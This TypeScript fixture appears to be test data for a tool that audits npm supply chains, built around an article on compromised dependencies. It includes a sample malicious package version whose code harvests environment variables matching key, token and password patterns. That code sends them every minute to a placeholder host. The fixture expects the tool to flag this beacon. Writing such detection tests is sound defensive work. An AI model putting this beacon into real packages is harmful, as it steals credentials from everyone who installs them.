import { type Article, built, type ChecklistLine, carefulCi, ci, workflow } from './article.js'

const advised = [
  'npm ci --ignore-scripts=false',
  'npm audit --audit-level=high',
  'npx @cyclonedx/cyclonedx-npm --output-format JSON --output-file sbom.json',
]

/** The article's own example, shortened, and inert: no such host can be. */
const beacon = [
  'exports.trim = (text) => text.trim()',
  'setInterval(() => {',
  '  const keys = Object.keys(process.env).filter((key) => /api[_-]?key|secret|token|password|credential/i.test(key))',
  '  const found = Object.fromEntries(keys.map((key) => [key, process.env[key]]))',
  "  require('https').request('https://analytics.cdn.example/v2/collect', { method: 'POST' }).end(JSON.stringify(found))",
  '}, 60_000)',
  '',
].join('\n')

const policy = "version: 1\ninternal: { scopes: ['@acme'], patterns: ['acme-*'] }\n"
const npmrc = '@acme:registry=https://npm.corp.example/\n'
const dependencies = { 'schema-of-rows': '4.1.0' }
const tree = (utility: string) => ({
  'schema-of-rows': { version: '4.1.0', dependencies: { 'text-of-rows': '^2.3.0' } },
  'text-of-rows': { version: '2.3.0', dependencies: { 'quick-text': '^1.0.0' } },
  'quick-text': utility,
})

const followed = {
  manifest: { dependencies },
  locked: tree('1.0.7'),
  files: {
    '.github/lockwarden.yml': policy,
    '.npmrc': npmrc,
    [ci]: carefulCi('git diff --exit-code package-lock.json', 'npm test'),
  },
}

const vulnerable = '"version": "1.0.0",'
const neglected: readonly ChecklistLine[] = [
  ['unresolved advisories', 'advisory-known', 'package-lock.json', vulnerable],
  ['CI by npm install', 'install-unlocked', ci, '- run: npm install'],
  ['every image', 'install-unlocked', 'Dockerfile', 'RUN npm i'],
  ['every deployment script', 'install-unlocked', 'deploy.sh', 'cd /srv/server && npm update'],
  ['scripts that nobody reviewed', 'install-scripts-enabled', ci, '- run: npm install'],
  ['the scope pinned to the registry', 'registry-scope-missing', 'tools/package.json', '"@acme/mcp-utils": "^1.2.0",'],
  ['provenance of direct dependencies', 'provenance-absent', 'package-lock.json', vulnerable],
]

const unscoped = '"acme-mcp-utils": "^1.2.0"'

/** It errs: scripts are what `=false` lets run, and npx takes the newest of whatever it is told to start. */
const misled: readonly ChecklistLine[] = [
  ['npm ci --ignore-scripts=false', 'install-scripts-enabled', ci, `- run: ${advised[0]}`],
  ['an inventory by npx', 'package-runner-unpinned', ci, `- run: ${advised[2]}`],
]

const compromised = '"version": "1.0.8",'
const lost: ChecklistLine = ['built by the expected repository', 'provenance-lost', 'package-lock.json', compromised]
const unlocked: ChecklistLine = ['no package-lock.json', 'lockfile-missing', 'package.json']

export const compromisedDependency: Article = {
  title: 'the article on compromised dependencies',
  packages: {
    'schema-of-rows': { '4.1.0': { ...built, manifest: { dependencies: { 'text-of-rows': '^2.3.0' } } } },
    'text-of-rows': { '2.3.0': { ...built, manifest: { dependencies: { 'quick-text': '^1.0.0' } } } },
    'quick-text': {
      '1.0.7': {
        ...built,
        published: '2026-08-01T10:00:00Z',
        files: { 'index.js': 'exports.trim = (text) => text.trim()\n' },
      },
      '1.0.8': { published: '2026-10-09T10:00:00Z', files: { 'index.js': beacon } },
    },
    'rows-of-old': { '1.0.0': { manifest: { scripts: { postinstall: 'node-gyp rebuild' } } } },
  },
  advisories: {
    'rows-of-old': [
      {
        id: 1,
        url: 'https://advisories.example/1',
        title: 'Rows can be read by everybody',
        severity: 'high',
        vulnerable_versions: '<2.0.0',
      },
    ],
  },
  followed,
  faulty: [
    {
      description:
        'installs without the lockfile, open advisories, nobody who asks, no inventory, internal names in public',
      state: {
        manifest: { dependencies: { ...dependencies, 'rows-of-old': '1.0.0' } },
        locked: { ...tree('1.0.7'), 'rows-of-old': { version: '1.0.0', hasInstallScript: true } },
        files: {
          '.github/lockwarden.yml': policy,
          [ci]: workflow('npm install'),
          Dockerfile: 'FROM node:24\nCOPY . .\nRUN npm i\n',
          'deploy.sh': '#!/bin/sh\ncd /srv/server && npm update\n',
          'tools/package.json':
            '{\n  "dependencies": {\n    "@acme/mcp-utils": "^1.2.0",\n    "acme-mcp-utils": "^1.2.0"\n  }\n}\n',
        },
      },
      audited: [
        ...neglected,
        ['an unscoped name', 'internal-name-unscoped', 'tools/package.json', unscoped],
        ['no npm audit step', 'audit-missing', 'package-lock.json'],
        ['no SBOM', 'sbom-missing', 'package-lock.json'],
      ],
      tree: { packages: 4, installScripts: ['rows-of-old@1.0.0'] },
      reviewed: [
        ...neglected,
        ['packages that run scripts', 'install-script-present', 'package-lock.json', vulnerable],
      ],
    },
    {
      description: 'no lockfile at all',
      state: {
        ...followed,
        manifest: { dependencies: { ...dependencies, 'acme-mcp-utils': '^1.2.0' } },
        locked: null,
      },
      audited: [unlocked, ['an unscoped name', 'internal-name-unscoped', 'package.json', unscoped]],
      reviewed: [unlocked],
    },
    {
      description: 'the workflow that the article gives, with its way to an inventory',
      state: { ...followed, files: { ...followed.files, [ci]: workflow(...advised) } },
      audited: misled,
      reviewed: misled,
    },
    {
      description: 'a package four levels down that begins to send the environment every minute, from nobody’s build',
      state: { ...followed, locked: tree('1.0.8') },
      audited: [lost],
      reviewed: [
        lost,
        ['code that was injected', 'code-hidden', 'package-lock.json', compromised],
        ['what it could not do before', 'capability-added', 'package-lock.json', compromised],
        ['credentials by their patterns', 'secrets-harvested', 'package-lock.json', compromised],
        ['sent away', 'secrets-exfiltrated', 'package-lock.json', compromised],
        ['every minute', 'beacon-added', 'package-lock.json', compromised],
        ['to an unexpected host', 'network-host-added', 'package-lock.json', compromised],
        ['all at once', 'combined-risk', 'package-lock.json', compromised],
      ],
    },
  ],
}
